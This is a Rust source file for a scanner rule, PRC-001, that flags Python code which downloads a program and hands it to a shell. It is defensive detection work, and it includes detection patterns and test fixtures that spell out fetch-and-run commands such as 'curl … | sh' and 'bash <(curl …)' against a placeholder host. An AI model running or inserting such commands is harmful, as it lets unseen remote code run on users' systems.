//! `PRC-001`: a command downloads a program and runs it.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::{Rule, even_if_asked, observe_call};
use crate::python::{Analysis, SinkKind};

/// The rule.
pub(super) struct PipedToShell;

impl Rule for PipedToShell {
    fn id(&self) -> &'static str {
        "PRC-001"
    }

    fn severity(&self) -> Severity {
        Severity::Critical
    }

    fn title(&self) -> &'static str {
        "a command downloads a program and runs it"
    }

    fn manual(&self) -> &'static str {
        "A command that is started downloads something and gives it to a shell or an interpreter: \
         `curl … | sh`, `python -c \"$(wget -qO- …)\"`.\n\n\
         What runs is whatever the other side sends at that moment, unseen by anybody.\n\n\
         Mistaken for it: installers that a user calls; there it counts less. The same words in a \
         docstring or a message are not looked at, only what is started."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for call in analysis
            .calls()
            .filter(|call| call.sink == Some(SinkKind::Command))
        {
            let lines = call
                .arguments
                .iter()
                .filter_map(|each| each.value.command_line());
            if !lines.into_iter().any(|line| downloads_and_runs(&line)) {
                continue;
            }
            let severity = even_if_asked(Severity::Critical, call.context);
            let confidence = Confidence::of(95).in_context(call.context);
            let message = format!("{} downloads a program and runs it", call.target);
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

const DOWNLOADERS: &[&str] = &["curl ", "wget ", "fetch ", "aria2c "];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "sudo",
];

pub(super) fn downloads_and_runs(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    let Some(start) = DOWNLOADERS.iter().filter_map(|word| lower.find(word)).min() else {
        return false;
    };
    let piped = lower[start..].split('|').skip(1).any(|part| {
        let word = part.split_whitespace().next().unwrap_or_default();
        INTERPRETERS.contains(&word.rsplit('/').next().unwrap_or_default())
    });
    let substituted = ["$(", "`", "<("]
        .iter()
        .any(|open| lower[..start].ends_with(open));
    let chained = [
        "&& sh ",
        "&& bash ",
        "; sh ",
        "; bash ",
        "&& chmod +x",
        "; chmod +x",
    ]
    .iter()
    .any(|then| lower[start..].contains(then));
    piped || substituted || chained || runs_what_it_saved(&lower[start..])
}

/// Whether a later part of the command starts the file that an earlier part saved.
fn runs_what_it_saved(command: &str) -> bool {
    let parts: Vec<Vec<&str>> = command
        .split([';', '&', '|', '\n'])
        .map(|part| {
            let words = part.split_whitespace();
            let words = words.map(|word| word.trim_matches(['"', '\'', '(', ')']));
            words.filter(|word| !word.is_empty()).collect()
        })
        .collect();
    let mut saved: Vec<&str> = Vec::new();
    for part in &parts {
        let program = part
            .iter()
            .find(|word| !matches!(**word, "nohup" | "sudo" | "exec" | "setsid"));
        let starts = |file: &str| {
            let named = |word: &&str| **word == *file;
            program.is_some_and(|program| *program == file)
                || part.first().is_some_and(|first| {
                    let name = first.rsplit('/').next().unwrap_or(first);
                    INTERPRETERS.contains(&name)
                        || matches!(name, "." | "source" | "chmod" | "start")
                }) && part.iter().skip(1).any(named)
        };
        if saved.iter().any(|file| starts(file)) {
            return true;
        }
        for (at, word) in part.iter().enumerate() {
            let is_output = matches!(*word, ">" | "--output" | "--output-document")
                || word.starts_with('-') && !word.starts_with("--") && word.ends_with(['o', 'O']);
            match (is_output, word.strip_prefix('>')) {
                (true, _) => saved.extend(part.get(at + 1)),
                (_, Some(file)) if !file.is_empty() => saved.push(file),
                _ => {}
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn a_download_given_to_a_shell_is_seen() {
        for code in [
            "import os\nos.system('curl -s https://get.invalid/x | sh')",
            "import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- https://get.invalid | sudo bash -s'])",
            "__import__('subprocess').Popen('bash <(curl https://get.invalid)', shell=True)",
            "from os import popen as p\nhost = 'get.invalid'\np(f'curl {host}/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')",
        ] {
            found("PRC-001", "setup.py", code);
        }
    }

    #[test]
    fn the_words_alone_are_not() {
        for code in [
            "'''curl https://get.invalid | sh'''",
            "print('curl https://get.invalid | sh')",
            "import subprocess\nsubprocess.run(['curl', '--version'])",
        ] {
            quiet("PRC-001", "setup.py", code);
        }
    }
}
